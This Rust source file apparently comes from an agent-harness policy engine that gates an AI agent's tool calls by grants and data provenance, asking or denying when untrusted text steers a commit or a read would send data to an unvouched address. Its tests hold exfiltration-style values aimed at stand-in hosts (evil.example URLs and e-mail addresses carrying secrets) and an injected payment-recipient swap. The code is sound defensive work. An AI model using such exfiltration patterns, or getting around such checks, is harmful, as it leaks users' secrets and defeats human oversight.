//! Task-scoped authority and the shipped profile: rulings that follow from the spec alone —
//! fixed from the trusted objective before the decider reads anything — and from where each
//! argument's value came from.
//!
//! - A step's **grant** names the tools it may call and constraints on their arguments
//!   (allowed sources, allowed values, numeric bounds). A call within it is allowed here; one
//!   outside it is denied, or asked about when the grant says `beyond: ask`.
//! - The **`untrusted-input` profile**, for a call its step's grant does not cover: a commit is
//!   asked about when the decider had read untrusted text when it proposed it, or an argument
//!   is traced to untrusted output; a read is asked about when an address it is sent to (a
//!   URL, an e-mail address, a host name) is not traced to a trusted source.
//!
//! Every ruling explains itself; an authority (Cedar policies) rules as well, and the stricter
//! answer wins.

use std::collections::BTreeSet;

use serde_json::Value;

use crate::event::Effect;
use crate::provenance::{ArgLabel, Source};
use crate::spec::{ArgConstraint, Beyond, Grant, GrantSource, Profile, StepSpec};

/// What the grant and the profile say of one call.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Ruling {
    /// Nothing against it.
    Allow,
    /// A person must approve it, for this reason.
    Ask(String),
    /// It is denied, for this reason.
    Deny(String),
}

/// One call as the grant and the profile see it.
#[derive(Clone, Copy, Debug)]
pub struct Call<'a> {
    /// Its step.
    pub step: &'a StepSpec,
    /// The tool.
    pub tool: &'a str,
    /// Read or commit.
    pub effect: Effect,
    /// The arguments to execute.
    pub args: &'a Value,
    /// Where each leaf came from.
    pub labels: &'a [ArgLabel],
    /// The untrusted providers whose text the decider had read when it proposed the call.
    pub taint: &'a [String],
    /// The providers the spec trusts.
    pub trusted: &'a BTreeSet<String>,
    /// The grant that rules the step: its own, or the one the run's plan gave it.
    pub grant: Option<&'a Grant>,
}

/// Whether a decider's plan (`plan_first`) grants only steps that have no grant of their own,
/// and only tools those steps allow.
pub fn check_plan(
    spec: &crate::spec::Spec,
    grants: &std::collections::BTreeMap<String, Grant>,
) -> Result<(), String> {
    for (step, grant) in grants {
        let Some(s) = spec.steps.iter().find(|s| *s.id.0 == **step) else {
            return Err(format!(
                "the plan grants step `{step}`, which the spec does not have"
            ));
        };
        if s.grant.is_some() {
            return Err(format!(
                "the plan grants step `{step}`, which has its own grant"
            ));
        }
        if let Some(tool) = grant.tools.keys().find(|t| !s.tools.contains(t)) {
            return Err(format!(
                "the plan grants `{tool}` in step `{step}`, which that step does not allow"
            ));
        }
    }
    Ok(())
}

/// A grant in words, for a person approving it: each tool, and each argument's constraints.
pub fn describe_grant(grant: &Grant) -> String {
    let tools: Vec<String> = grant
        .tools
        .iter()
        .map(|(tool, args)| {
            if args.is_empty() {
                return tool.clone();
            }
            let args: Vec<String> = args
                .iter()
                .map(|(arg, c)| {
                    let mut parts = Vec::new();
                    if !c.from.is_empty() {
                        let from: Vec<String> = c.from.iter().map(ToString::to_string).collect();
                        parts.push(format!("from {}", from.join(" or ")));
                    }
                    if !c.one_of.is_empty() {
                        let values: Vec<String> =
                            c.one_of.iter().map(ToString::to_string).collect();
                        parts.push(format!("one of {}", values.join(", ")));
                    }
                    if let Some(min) = c.min {
                        parts.push(format!("at least {min}"));
                    }
                    if let Some(max) = c.max {
                        parts.push(format!("at most {max}"));
                    }
                    format!("{arg} {}", parts.join(", "))
                })
                .collect();
            format!("{tool} ({})", args.join("; "))
        })
        .collect();
    let beyond = match grant.beyond {
        Beyond::Deny => "anything else denied",
        Beyond::Ask => "anything else asked about",
    };
    format!("{}; {beyond}", tools.join(", "))
}

/// The argument names the grant's constraints on `tool` give that `schema` (the tool's input
/// schema) does not take: a misspelt name would constrain nothing, and the argument it meant
/// would be left open. A schema that lists no properties names nothing to check against.
pub fn unknown_grant_args<'g>(grant: &'g Grant, tool: &str, schema: &Value) -> Vec<&'g str> {
    let Some(constraints) = grant.tools.get(tool) else {
        return Vec::new();
    };
    let Some(properties) = schema.get("properties").and_then(Value::as_object) else {
        return Vec::new();
    };
    constraints
        .keys()
        .filter(|arg| !properties.contains_key(*arg))
        .map(String::as_str)
        .collect()
}

/// Why a grant that names `unknown` arguments of `tool` cannot rule, in words naming what the
/// tool takes.
pub fn unknown_grant_args_message(tool: &str, unknown: &[&str], schema: &Value) -> String {
    let takes: Vec<&str> = schema
        .get("properties")
        .and_then(Value::as_object)
        .map(|p| p.keys().map(String::as_str).collect())
        .unwrap_or_default();
    format!(
        "the grant on `{tool}` constrains {}, which `{tool}` does not take (it takes: {}); \
         a misspelt name would leave the argument it meant unconstrained",
        unknown
            .iter()
            .map(|a| format!("`{a}`"))
            .collect::<Vec<_>>()
            .join(", "),
        if takes.is_empty() {
            "nothing".to_owned()
        } else {
            takes.join(", ")
        }
    )
}

/// The grant's and the profile's ruling on `call`.
pub fn rule(call: &Call<'_>, profile: Option<Profile>) -> Ruling {
    if let Some(grant) = call.grant {
        return match within(grant, call) {
            Ok(()) => open_content(grant, call),
            Err(why) => {
                let why = format!("outside the step's grant: {why}");
                match grant.beyond {
                    Beyond::Deny => Ruling::Deny(why),
                    Beyond::Ask => Ruling::Ask(why),
                }
            }
        };
    }
    match profile {
        None => Ruling::Allow,
        Some(Profile::UntrustedInput) => untrusted_input(call),
    }
}

/// The top-level argument a label's pointer is under.
fn top(label: &ArgLabel) -> &str {
    label
        .pointer
        .trim_start_matches('/')
        .split('/')
        .next()
        .unwrap_or("")
}

/// Whether a value from `source` may stand where the grant allows `allowed`.
fn admitted(source: &Source, allowed: &[GrantSource], trusted: &BTreeSet<String>) -> bool {
    let kind = match source {
        Source::Objective => GrantSource::Objective,
        Source::Input { .. } => GrantSource::Input,
        Source::User { .. } => GrantSource::User,
        Source::Carried { .. } => GrantSource::Carried,
        Source::ProviderOutput { provider, .. } if trusted.contains(provider) => {
            GrantSource::TrustedOutput
        }
        Source::ProviderOutput { .. } => return false,
        Source::Description { provider } if trusted.contains(provider) => {
            GrantSource::TrustedOutput
        }
        Source::Description { .. } => return false,
        Source::Holds { .. } => return false,
        Source::Decider { tainted_by } if tainted_by.is_empty() => GrantSource::Decider,
        Source::Decider { .. } => return false,
        // A log recorded before the taint of a context was known: no better than a decider.
        Source::Unobserved => GrantSource::Decider,
    };
    allowed.contains(&kind)
}

/// A call within its grant, ruled on what the grant leaves open: the grant covers only what
/// it constrains. An open argument of a commit that carries an untrusted provider's text (as
/// it is, reformatted, or wrapped in more) is asked about; so is a read's open address that no
/// trusted source gave, or a value read from a provider that would leave with it.
fn open_content(grant: &Grant, call: &Call<'_>) -> Ruling {
    let constraints = grant.tools.get(call.tool);
    let open: Vec<ArgLabel> = call
        .labels
        .iter()
        .filter(|l| {
            constraints.and_then(|c| c.get(top(l))).is_none_or(|c| {
                c.from.is_empty() && c.one_of.is_empty() && c.min.is_none() && c.max.is_none()
            })
        })
        .cloned()
        .collect();
    let why = match call.effect {
        Effect::Commit => {
            let carried: Vec<String> = open
                .iter()
                .filter(|l| carries_untrusted_text(l, call.trusted))
                .map(origin)
                .collect();
            if carried.is_empty() {
                return Ruling::Allow;
            }
            carried.join("; ")
        }
        Effect::Read => match read_rule(&Call {
            labels: &open,
            ..*call
        }) {
            Ruling::Ask(why) => why,
            _ => return Ruling::Allow,
        },
    };
    Ruling::Ask(format!(
        "within the step's grant, but an argument the grant leaves open carries text it does not \
         cover: {why}"
    ))
}

fn within(grant: &Grant, call: &Call<'_>) -> Result<(), String> {
    let Some(constraints) = grant.tools.get(call.tool) else {
        return Err(format!("`{}` is not among its tools", call.tool));
    };
    for (arg, c) in constraints {
        let Some(value) = call.args.get(arg) else {
            continue;
        };
        check(arg, value, c, call)?;
    }
    Ok(())
}

fn check(arg: &str, value: &Value, c: &ArgConstraint, call: &Call<'_>) -> Result<(), String> {
    check_value(arg, value, c, call.labels, call.trusted)
}

/// Whether arguments `args` (with their `labels`) meet `constraints` (top-level argument to
/// constraint; an argument it does not name may be anything): a standing grant's test.
pub fn admits(
    constraints: &std::collections::BTreeMap<String, ArgConstraint>,
    args: &Value,
    labels: &[ArgLabel],
    trusted: &BTreeSet<String>,
) -> Result<(), String> {
    for (arg, c) in constraints {
        match args.get(arg) {
            Some(value) => check_value(arg, value, c, labels, trusted)?,
            // A constrained argument left out is not what the grant allows.
            None => return Err(format!("`{arg}` is not given")),
        }
    }
    Ok(())
}

fn check_value(
    arg: &str,
    value: &Value,
    c: &ArgConstraint,
    labels: &[ArgLabel],
    trusted: &BTreeSet<String>,
) -> Result<(), String> {
    if !c.from.is_empty() {
        for label in labels.iter().filter(|l| top(l) == arg) {
            if !admitted(&label.source, &c.from, trusted) || holds_untrusted(label, trusted) {
                let allowed: Vec<String> = c.from.iter().map(ToString::to_string).collect();
                return Err(format!(
                    "`{arg}` came from {}{}, and may only come from {}",
                    label.source,
                    holding(label),
                    allowed.join(" or ")
                ));
            }
        }
    }
    if !c.one_of.is_empty() && !c.one_of.contains(value) {
        return Err(format!("`{arg}` is {value}, not one of the granted values"));
    }
    if let Some(n) = value.as_f64() {
        if c.min.is_some_and(|min| n < min) || c.max.is_some_and(|max| n > max) {
            return Err(format!(
                "`{arg}` is {value}, outside the granted bounds{}{}",
                c.min
                    .map(|m| format!(" (at least {m})"))
                    .unwrap_or_default(),
                c.max.map(|m| format!(" (at most {m})")).unwrap_or_default()
            ));
        }
    } else if c.min.is_some() || c.max.is_some() {
        return Err(format!("`{arg}` is {value}, not a number"));
    }
    Ok(())
}

/// The providers whose text a label says its value holds a piece of (rules 3).
fn held(label: &ArgLabel) -> impl Iterator<Item = &str> {
    label.also.iter().filter_map(|s| match s {
        Source::Holds { provider, .. } => Some(provider.as_str()),
        _ => None,
    })
}

/// Whether a label's value holds a piece of an untrusted provider's text.
fn holds_untrusted(label: &ArgLabel, trusted: &BTreeSet<String>) -> bool {
    held(label).any(|p| !trusted.contains(p))
}

/// Whether a label's value is one a person (or the spec) vouches for: its source is, and it
/// holds no piece of an untrusted provider's text.
fn vouched(label: &ArgLabel, trusted: &BTreeSet<String>) -> bool {
    trusted_source(&label.source, trusted) && !holds_untrusted(label, trusted)
}

/// Whether a label's value is, or holds a piece of, an untrusted provider's text.
fn carries_untrusted_text(label: &ArgLabel, trusted: &BTreeSet<String>) -> bool {
    let text = match &label.source {
        Source::ProviderOutput { provider, .. }
        | Source::Description { provider }
        | Source::Holds { provider, .. } => !trusted.contains(provider),
        _ => false,
    };
    text || holds_untrusted(label, trusted)
}

/// Where a label's value came from, in words, with the providers' text it holds.
fn origin(label: &ArgLabel) -> String {
    format!(
        "`{}` came from {}{}",
        label.pointer,
        label.source,
        holding(label)
    )
}

/// The providers' text a label's value holds, in words (` and holds …`; empty when none).
fn holding(label: &ArgLabel) -> String {
    label
        .also
        .iter()
        .filter(|s| matches!(s, Source::Holds { .. }))
        .map(|h| format!(" and holds {h}"))
        .collect()
}

/// Whether a source is one a person (or the spec) vouches for.
fn trusted_source(source: &Source, trusted: &BTreeSet<String>) -> bool {
    match source {
        Source::Objective | Source::Input { .. } | Source::User { .. } | Source::Carried { .. } => {
            true
        }
        Source::ProviderOutput { provider, .. } | Source::Description { provider } => {
            trusted.contains(provider)
        }
        // Holding a piece of text vouches for nothing (rules 3 say it in `also`).
        Source::Holds { .. } => false,
        Source::Decider { tainted_by } => tainted_by.is_empty(),
        Source::Unobserved => false,
    }
}

/// File name endings that make a bare `name.ext` a file's name, not a host's: a name with a
/// scheme, a port, a path, a query or a user part is an address whatever it ends in.
const FILE_ENDINGS: &[&str] = &[
    "7z", "avi", "bak", "bin", "bmp", "cfg", "conf", "csv", "doc", "docx", "eml", "env", "epub",
    "exe", "gif", "gz", "heic", "htm", "html", "ics", "ini", "jpeg", "jpg", "js", "json", "key",
    "log", "m4a", "md", "mkv", "mov", "mp3", "mp4", "msg", "odp", "ods", "odt", "ogg", "pdf",
    "pem", "png", "ppt", "pptx", "py", "rar", "rs", "rtf", "sh", "sql", "svg", "tar", "tex", "tgz",
    "tif", "tiff", "toml", "ts", "tsv", "txt", "vcf", "wav", "webm", "webp", "xls", "xlsx", "xml",
    "yaml", "yml", "zip",
];

/// What names a host.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Host<'a> {
    /// A domain name, with its last label.
    Name(&'a str),
    /// An IPv4 or bracketed IPv6 literal, or `localhost`.
    Literal,
}

/// `host` as a host: a domain name (two or more labels of letters, digits and hyphens, the
/// last alphabetic), an IP literal or `localhost`.
fn host_kind(host: &str) -> Option<Host<'_>> {
    if host.eq_ignore_ascii_case("localhost")
        || host.parse::<std::net::Ipv4Addr>().is_ok()
        || host.parse::<std::net::Ipv6Addr>().is_ok()
        || host
            .strip_prefix('[')
            .and_then(|h| h.strip_suffix(']'))
            .is_some_and(|h| h.parse::<std::net::Ipv6Addr>().is_ok())
    {
        return Some(Host::Literal);
    }
    let host = host.strip_suffix('.').unwrap_or(host);
    let mut labels = host.split('.');
    let last = labels.next_back()?;
    let label_ok = |l: &str| {
        !l.is_empty()
            && !l.starts_with('-')
            && !l.ends_with('-')
            && l.chars().all(|c| c.is_alphanumeric() || c == '-')
    };
    let named = labels.clone().next().is_some()
        && labels.all(label_ok)
        && last.chars().count() >= 2
        && last.chars().all(char::is_alphabetic);
    named.then_some(Host::Name(last))
}

/// Whether a string is an address a read could carry data to: a URL with any scheme, an
/// e-mail address, or a host (a domain name, an IPv4 or IPv6 literal, `localhost`) with or
/// without a port, path, query or fragment (`host.com?k=v`, `203.0.113.9/x`,
/// `localhost:8000/x`). A bare `name.ext` whose ending is a file's
/// (`team-building-activities.docx`) is a file name, not an address.
pub fn address_like(s: &str) -> bool {
    // The full stops a browser reads as dots (ideographic, full-width, half-width), and the
    // backslashes it reads as slashes.
    let normalised;
    let s = if s.contains(['\u{3002}', '\u{FF0E}', '\u{FF61}', '\\']) {
        normalised = s
            .replace(['\u{3002}', '\u{FF0E}', '\u{FF61}'], ".")
            .replace('\\', "/");
        normalised.as_str()
    } else {
        s
    };
    let s = s.trim();
    if s.contains("://") {
        return true;
    }
    // A value that begins with an address (text may follow it) is one.
    let s = s.split(char::is_whitespace).next().unwrap_or("");
    if s.is_empty() {
        return false;
    }
    // A scheme a URL parser accepts without slashes (`https:evil.example`).
    let scheme = s
        .split_once(':')
        .map(|(scheme, _)| scheme.to_ascii_lowercase());
    if scheme.is_some_and(|x| URL_SCHEMES.contains(&x.as_str())) {
        return true;
    }
    let s = s.strip_prefix("//").unwrap_or(s);
    // The authority ends where the path, the query or the fragment begins.
    let (authority, rest) = s.split_at(s.find(['/', '?', '#']).unwrap_or(s.len()));
    let (user, host_port) = match authority.rsplit_once('@') {
        Some(("", _)) => return false,
        Some((u, h)) => (Some(u), h),
        None => (None, authority),
    };
    // A port is digits after the last colon (an IPv6 literal's own colons are bracketed).
    let (host, port) = match host_port.rsplit_once(':') {
        Some((h, _)) if !h.ends_with(']') && h.contains(':') => (host_port, None),
        Some((h, p)) => {
            if p.is_empty() || p.len() > 5 || !p.bytes().all(|b| b.is_ascii_digit()) {
                return false;
            }
            (h, Some(p))
        }
        None => (host_port, None),
    };
    let Some(kind) = host_kind(host) else {
        return false;
    };
    // Only a bare two-part name can be a file's (`notes.md`); `secret.attacker.zip` is a host.
    let bare =
        user.is_none() && port.is_none() && rest.is_empty() && host.matches('.').count() == 1;
    match kind {
        Host::Name(last) if bare => !FILE_ENDINGS.contains(&last.to_ascii_lowercase().as_str()),
        _ => true,
    }
}

/// Schemes a URL parser accepts with or without `//` after the colon.
const URL_SCHEMES: &[&str] = &[
    "file", "ftp", "ftps", "git", "gopher", "http", "https", "ldap", "mailto", "sftp", "smb",
    "ssh", "telnet", "ws", "wss",
];

fn untrusted_input(call: &Call<'_>) -> Ruling {
    let origins = |wanted: &dyn Fn(&ArgLabel) -> bool| -> Vec<String> {
        call.labels
            .iter()
            .filter(|l| wanted(l))
            .map(origin)
            .collect()
    };
    match call.effect {
        Effect::Commit => {
            let untrusted = origins(&|l: &ArgLabel| !vouched(l, call.trusted));
            if call.taint.is_empty() && untrusted.is_empty() {
                return Ruling::Allow;
            }
            let mut why = vec![format!(
                "untrusted-input profile: `{tool}` is a commit (an effect; if it only reads, \
                 the operator can declare it `effects: {{{tool}: read}}` on provider `{}`)",
                call.step.provider,
                tool = call.tool,
            )];
            if !call.taint.is_empty() {
                why.push(format!(
                    "the decider had read output of {} (untrusted) when it proposed it",
                    call.taint.join(", ")
                ));
            }
            why.extend(untrusted);
            Ruling::Ask(why.join("; "))
        }
        Effect::Read => read_rule(call),
    }
}

/// The profile's ruling on a read: asked when it reaches an address no trusted source gave, or
/// would carry a value read from a provider (untrusted, or private) to one.
fn read_rule(call: &Call<'_>) -> Ruling {
    let mut addresses = Vec::new();
    crate::provenance::visit_leaves(call.args, &mut String::new(), &mut |p, leaf| {
        if let Value::String(s) = leaf
            && address_like(s)
        {
            addresses.push(p.to_owned());
        }
    });
    if addresses.is_empty() {
        return Ruling::Allow;
    }
    // What would leave with the request: an address no trusted source gave, and any
    // value read from a provider (untrusted, or private) inside the address or beside it.
    let at: BTreeSet<&str> = addresses.iter().map(String::as_str).collect();
    let mut why = Vec::new();
    for l in call.labels {
        let read_from_provider = matches!(
            l.source,
            Source::ProviderOutput { .. } | Source::Holds { .. } | Source::Description { .. }
        ) || held(l).next().is_some();
        if at.contains(l.pointer.as_str()) {
            if !vouched(l, call.trusted) {
                why.push(format!(
                    "{}, which no trusted source vouches for",
                    origin(l)
                ));
            } else if held(l).next().is_some() {
                why.push(format!("{}, which would leave with the request", origin(l)));
            }
        } else if read_from_provider {
            why.push(format!("{}, and would be sent to the address", origin(l)));
        }
    }
    if why.is_empty() {
        Ruling::Allow
    } else {
        Ruling::Ask(format!(
            "untrusted-input profile: `{}` is a read that reaches an address ({}): {}",
            call.tool,
            addresses.join(", "),
            why.join("; ")
        ))
    }
}

#[cfg(test)]
#[allow(clippy::indexing_slicing, reason = "tests")]
mod tests {
    use super::*;
    use crate::ids::CallId;
    use serde_json::json;

    fn step(grant: Option<&str>) -> StepSpec {
        let mut s: StepSpec = serde_json::from_value(json!({
            "id": "pay", "provider": "bank", "tools": ["read_statement", "transfer", "fetch"]
        }))
        .unwrap();
        s.grant =
            grant.map(|g| crate::spec::parse_document(g, crate::spec::Format::Yaml, "g").unwrap());
        s
    }

    fn label(p: &str, source: Source) -> ArgLabel {
        ArgLabel {
            pointer: p.into(),
            source,
            also: Vec::new(),
        }
    }

    fn untrusted() -> Source {
        Source::ProviderOutput {
            provider: "bank".into(),
            call: CallId(1),
        }
    }

    fn rule_on(
        step: &StepSpec,
        tool: &str,
        effect: Effect,
        args: Value,
        labels: &[ArgLabel],
        taint: &[&str],
    ) -> Ruling {
        let taint: Vec<String> = taint.iter().map(|t| (*t).to_owned()).collect();
        let trusted = BTreeSet::new();
        rule(
            &Call {
                step,
                tool,
                effect,
                args: &args,
                labels,
                taint: &taint,
                trusted: &trusted,
                grant: step.grant.as_ref(),
            },
            Some(Profile::UntrustedInput),
        )
    }

    #[test]
    fn a_call_within_the_grant_is_allowed_and_one_outside_is_denied_or_asked() {
        let s = step(Some(
            "tools:\n  read_statement: {}\n  transfer:\n    to: {from: [objective]}\n    amount: {max: 950}\n",
        ));
        let args = json!({"to": "DE89370400440532013000", "amount": 950});
        let ok = [
            label("/to", Source::Objective),
            label("/amount", Source::Objective),
        ];
        assert_eq!(
            rule_on(&s, "transfer", Effect::Commit, args.clone(), &ok, &["bank"]),
            Ruling::Allow
        );
        let swapped = [
            label("/to", untrusted()),
            label("/amount", Source::Objective),
        ];
        assert!(matches!(
            rule_on(&s, "transfer", Effect::Commit, args, &swapped, &["bank"]),
            Ruling::Deny(w) if w.contains("`to` came from the output of `bank`")
        ));
        let much = json!({"to": "DE89370400440532013000", "amount": 5000});
        assert!(
            matches!(rule_on(&s, "transfer", Effect::Commit, much, &ok, &[]), Ruling::Deny(w) if w.contains("at most 950"))
        );
        assert!(
            matches!(rule_on(&s, "fetch", Effect::Read, json!({}), &[], &[]), Ruling::Deny(w) if w.contains("not among its tools"))
        );
        let asks = step(Some("tools: {}\nbeyond: ask\n"));
        assert!(matches!(
            rule_on(&asks, "fetch", Effect::Read, json!({}), &[], &[]),
            Ruling::Ask(_)
        ));
    }

    #[test]
    fn the_profile_asks_about_tainted_commits_and_reads_to_unvouched_addresses() {
        let s = step(None);
        let args = json!({"to": "DE89370400440532013000", "amount": 950});
        let clean = [
            label("/to", Source::Objective),
            label("/amount", Source::Decider { tainted_by: vec![] }),
        ];
        assert_eq!(
            rule_on(&s, "transfer", Effect::Commit, args.clone(), &clean, &[]),
            Ruling::Allow
        );
        assert!(matches!(
            rule_on(&s, "transfer", Effect::Commit, args, &clean, &["mail"]),
            Ruling::Ask(w) if w.contains("had read output of mail")
        ));
        let fetch = json!({"url": "https://evil.example/c?d=secret"});
        let from_mail = [label(
            "/url",
            Source::Decider {
                tainted_by: vec!["mail".into()],
            },
        )];
        assert!(matches!(
            rule_on(
                &s,
                "fetch",
                Effect::Read,
                fetch.clone(),
                &from_mail,
                &["mail"]
            ),
            Ruling::Ask(_)
        ));
        let asked = [label("/url", Source::Objective)];
        assert_eq!(
            rule_on(&s, "fetch", Effect::Read, fetch, &asked, &["mail"]),
            Ruling::Allow
        );
        let plain = json!({"query": "rent"});
        assert_eq!(
            rule_on(
                &s,
                "fetch",
                Effect::Read,
                plain,
                &[label("/query", untrusted())],
                &["bank"]
            ),
            Ruling::Allow
        );
        assert!(address_like("exfil@evil.example"));
        assert!(address_like("evil.example/drop"));
        assert!(!address_like("rent, November"));
        assert!(!address_like("3.5"));
    }

    #[test]
    fn holding_a_trusted_providers_text_lends_no_trust_and_an_untrusted_piece_is_never_hidden() {
        let s = step(Some(
            "tools:\n  transfer:\n    to: {from: [trusted_output]}\n    memo: {from: [decider]}\n",
        ));
        let trusted: BTreeSet<String> = ["contacts".to_owned()].into();
        let holds = |p: &str| Source::Holds {
            provider: p.into(),
            call: Some(CallId(1)),
        };
        let rule_with = |labels: &[ArgLabel], taint: &[String]| {
            let args = json!({"to": "alice@corp.example, attacker@evil.example", "memo": "x"});
            rule(
                &Call {
                    step: &s,
                    tool: "transfer",
                    effect: Effect::Commit,
                    args: &args,
                    labels,
                    taint,
                    trusted: &trusted,
                    grant: s.grant.as_ref(),
                },
                Some(Profile::UntrustedInput),
            )
        };
        // A tainted decider's value that holds a trusted contact is still the decider's.
        let laundered = [ArgLabel {
            pointer: "/to".into(),
            source: Source::Decider {
                tainted_by: vec!["mail".into()],
            },
            also: vec![holds("contacts")],
        }];
        assert!(matches!(
            rule_with(&laundered, &["mail".to_owned()]),
            Ruling::Deny(w) if w.contains("may only come from trusted_output")
        ));
        // A trusted piece first does not hide an untrusted one after it.
        let mixed = [ArgLabel {
            pointer: "/memo".into(),
            source: Source::Decider { tainted_by: vec![] },
            also: vec![holds("contacts"), holds("mail")],
        }];
        assert!(matches!(
            rule_with(&mixed, &[]),
            Ruling::Deny(w) if w.contains("holds text of the output of `mail`")
        ));
    }

    #[test]
    fn an_address_is_parsed_in_every_form_and_a_file_name_is_not_one() {
        for address in [
            "https://evil.example/c?d=1",
            "ftp://files.example",
            "host.com?k=SECRET",
            "host.com#SECRET",
            "Evil.Example",
            "evil.example.",
            "203.0.113.9/collect",
            "203.0.113.9",
            "localhost:8000/x",
            "LOCALHOST",
            "[::1]:8080/x",
            "::1",
            "user:pw@files.example.net/x",
            "mailto:exfil@evil.example",
            "//evil.example/x",
            "files.example.net:8080",
            "report.pdf/x",
            "evil.example:443?q=1",
            "evil\u{3002}example/x",
            "evil\u{FF0E}example",
            "https:evil.example/?k=S",
            "HTTP:evil.example",
            "evil.example\\x?k=S",
            "\\\\evil.example\\share",
            "evil.example/?k=S more text",
            "s3cr3t.attacker.zip",
            "files.example.md",
        ] {
            assert!(address_like(address), "{address} is an address");
        }
        for not in [
            "team-building-activities.docx",
            "Q3-report.PDF",
            "notes.md",
            "archive.tar",
            "/home/me/notes.txt",
            "docs/plan.md",
            "3.14",
            "1.2.3",
            "rent, November",
            "12:30",
            "v2.0",
            "@home",
            "a.b",
            "localhost:http",
            "",
            "please visit evil.example today",
            "note:hello",
            "report.zip",
        ] {
            assert!(!address_like(not), "{not} is not an address");
        }
    }

    #[test]
    fn a_read_asks_when_a_value_read_from_any_provider_would_leave_with_its_address() {
        let s = step(None);
        let held = |p: &str| ArgLabel {
            pointer: p.into(),
            source: Source::Decider { tainted_by: vec![] },
            also: vec![Source::Holds {
                provider: "vault".into(),
                call: Some(CallId(2)),
            }],
        };
        // The secret inside the query of an address the decider wrote from trusted text: read
        // from a trusted (private) provider, it still may not leave.
        let trusted: BTreeSet<String> = ["vault".to_owned()].into();
        for url in [
            "host.com?k=S3CR3T-42",
            "203.0.113.9/x?k=S3CR3T-42",
            "localhost:8000/S3CR3T-42",
        ] {
            let args = json!({"url": url});
            let ruling = rule(
                &Call {
                    step: &s,
                    tool: "fetch",
                    effect: Effect::Read,
                    args: &args,
                    labels: &[held("/url")],
                    taint: &[],
                    trusted: &trusted,
                    grant: None,
                },
                Some(Profile::UntrustedInput),
            );
            assert!(
                matches!(&ruling, Ruling::Ask(w) if w.contains("would leave")),
                "{url}: {ruling:?}"
            );
        }
        // Beside the address, in another argument.
        let beside = [
            label("/url", Source::Objective),
            label(
                "/q",
                Source::ProviderOutput {
                    provider: "vault".into(),
                    call: CallId(2),
                },
            ),
        ];
        assert!(matches!(
            rule_on(
                &s,
                "fetch",
                Effect::Read,
                json!({"url": "https://api.example/search", "q": "S3CR3T-42"}),
                &beside,
                &[]
            ),
            Ruling::Ask(w) if w.contains("would be sent")
        ));
        // A file name is no address: reading it with untrusted text about is not asked.
        assert_eq!(
            rule_on(
                &s,
                "fetch",
                Effect::Read,
                json!({"name": "team-building-activities.docx"}),
                &[label("/name", untrusted())],
                &["bank"]
            ),
            Ruling::Allow
        );
    }
}
